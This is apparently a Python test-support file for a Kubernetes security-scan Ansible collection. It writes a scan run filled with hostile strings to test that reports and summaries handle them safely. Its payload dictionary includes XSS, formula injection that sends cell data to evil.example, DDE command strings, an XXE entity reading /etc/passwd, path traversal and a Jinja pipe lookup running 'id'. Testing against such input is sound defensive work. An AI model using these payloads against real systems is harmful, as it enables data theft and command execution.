# Copyright (c) 2026 securescan.kubernetes contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A run whose names, texts, tags, waivers and attestations are written by an enemy, as far as a run lets them through."""

from __future__ import annotations

import pathlib
from typing import Any

from ansible_collections.securescan.kubernetes.plugins.module_utils.errors import ScanError
from ansible_collections.securescan.kubernetes.plugins.module_utils.results.gate import decide
from ansible_collections.securescan.kubernetes.plugins.module_utils.results.run import Run, open_run
from ansible_collections.securescan.kubernetes.plugins.module_utils.results.run_folder import RunFolder
from ansible_collections.securescan.kubernetes.plugins.module_utils.results.threshold import (
    DEFAULT_THRESHOLD,
)
from ansible_collections.securescan.kubernetes.tests.support.sample_results import (
    make_control,
    make_document,
    make_target,
    write_run,
)

LONG = 1_000_000
HOSTILE_TEXTS: dict[str, str] = {
    "html": "<script>globalThis.pwned=1</script><img src=x onerror=alert(1)>'\"&amp;</testcase>]]></style>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "formula behind a semicolon": 'x;=1+1;"@SUM(1)',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab and equals": "\t=1+1",
    "ansi": "\x1b[2J\x1b]0;pwned\x07\x1b[31mred\x9b31m",
    "crlf": "one\r\nHTTP/1.1 200 OK\r\n\r\n<6>1 - evil\nthree\rfour",
    "nul": "a\0b\x01\x08\x7f\x85\u2028\u2029",
    "jinja": "{{ lookup('pipe', 'id') }}{% for x in [].__class__ %}{# #}",
    "lone surrogates": "\ud800 \udcff \udfff",
    "bidi": "safe\u202egnp.exe\u2066\u2069\u200f\u200b\ufeff",
    "xml": "]]>--><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;\ufffe\uffff",
    "markdown": "[x](javascript:alert(1)) ![y](http://evil.example/z) | a | `b` <http://evil.example> @all\n# Head",
    "path": "../../../../etc/passwd\0.json",
    "json": '","status":"passed","x":"',
    "csv": 'a,"b""c",d\r\n"passed","x"',
    "labels": 'x{a="b"} 1\n# HELP x\n\\',
    "dots": "__proto__.constructor.polluted",
    "long": "A" * LONG,
    "long formula": "=" + "1+" * (LONG // 2) + "1",
    "long markup": "<" * LONG,
}


def _document(target: Any, text: str) -> dict[str, Any]:
    """A document with one control that failed, one that was waived, and one that was attested."""
    names = ("failed", "waived", "attested")
    controls = [make_control(f"c-{name}", "failed", impact=0.7) for name in names]
    document = make_document(target, *controls)
    for control in document["profiles"][0]["controls"]:
        control.update(title=text, desc=text, code=text)
        control["descriptions"] = [
            {"label": label, "data": text} for label in ("fix", "check", "rationale", text[:50])
        ]
        control["tags"] = {"nist": [text, "AC-6"], "cci": [text], text[:100]: text, "stig_id": text}
        control["results"][0].update(message=text, code_desc=text, resource=text)
    _failed, waived, attested = document["profiles"][0]["controls"]
    waived["waiver_data"] = {
        "justification": text,
        "run": False,
        "skipped_due_to_waiver": True,
        "message": "",
        **dict.fromkeys(("owner", "requested_by", "approved_by", "ticket", "expiration_date"), text),
    }
    attested["attestation_data"] = {
        "control_id": "c-attested",
        "status": "failed",
        **dict.fromkeys(("explanation", "updated", "updated_by", "frequency", "ticket"), text),
    }
    return document


def write_hostile_run(folder: pathlib.Path) -> Run:
    """A target for each text, and one that was not scanned for each."""
    documents, not_scanned = [], []
    for index, text in enumerate(HOSTILE_TEXTS.values()):
        short = text[:300]
        target = make_target(
            f"{index} {short}", short, workload=short, image=short, node=short, image_digest=short
        )
        documents.append((target, _document(target, text)))
        error = ScanError("exec_failed", text, tried=text, cause=text, advice=text)
        not_scanned.append((make_target(f"gone {index} {short}"), error))
    path = write_run(folder, "hostile", documents, not_scanned, cluster=HOSTILE_TEXTS["html"])
    run = open_run(str(path))
    named = [(target.hdf, document) for target, (_unused, document) in zip(run.targets, documents)]
    decision = decide(DEFAULT_THRESHOLD, named, run.expected_targets())
    RunFolder(str(path.parent), path.name).write_summary(run.with_gate(decision))
    return open_run(str(path))
